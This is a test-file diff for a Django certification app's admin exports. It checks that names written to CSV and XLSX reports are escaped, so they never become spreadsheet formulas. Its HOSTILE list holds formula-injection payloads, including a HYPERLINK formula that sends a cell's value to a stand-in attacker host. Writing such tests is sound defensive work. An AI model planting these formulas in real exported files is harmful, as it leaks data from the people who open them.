@@ -169,3 +169,48 @@ def test_registrars_browse_and_filter_the_audit_log(client, registrar, operation
 
     assert page.status_code == 200
     assert "Data exported" in page.content.decode()
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.test/?x="&A1,"Open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_name_never_becomes_a_formula_in_csv_or_xlsx(
+    client, registrar, operations_data, learner, name
+):
+    from certification.models import Certificate
+    from learners.models import LearnerProfile
+
+    LearnerProfile.objects.filter(user=learner).update(legal_name=name)
+    Certificate.objects.filter(pk=operations_data.pk).update(holder_name=name)
+    client.force_login(registrar)
+
+    for report, column in [("roster", 4), ("certificates", 1)]:
+        rows = _csv(client, report=report)
+        assert rows[1][column] == f"'{name}"
+        response = client.get("/admin/exports/", {"report": report, "file_format": "xlsx"})
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cell = sheet.cell(row=2, column=column + 1)
+        # XML reads a carriage return back as a line feed; the cell is text either way.
+        assert (cell.value, cell.data_type) == (name.replace("\r", "\n"), "s")
+        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_numbers_stay_numbers_in_both_formats(client, registrar, operations_data):
+    client.force_login(registrar)
+
+    rows = _csv(client, report="payments")
+    response = client.get("/admin/exports/", {"report": "payments", "file_format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+
+    assert rows[1][2] == "2"  # a count, not "'2"
+    assert (sheet.cell(row=2, column=3).value, sheet.cell(row=2, column=3).data_type) == (2, "n")
+    roster = _csv(client, report="roster", course="DN-1")
+    assert roster[1][1].isdigit()  # the offering's number, unquoted
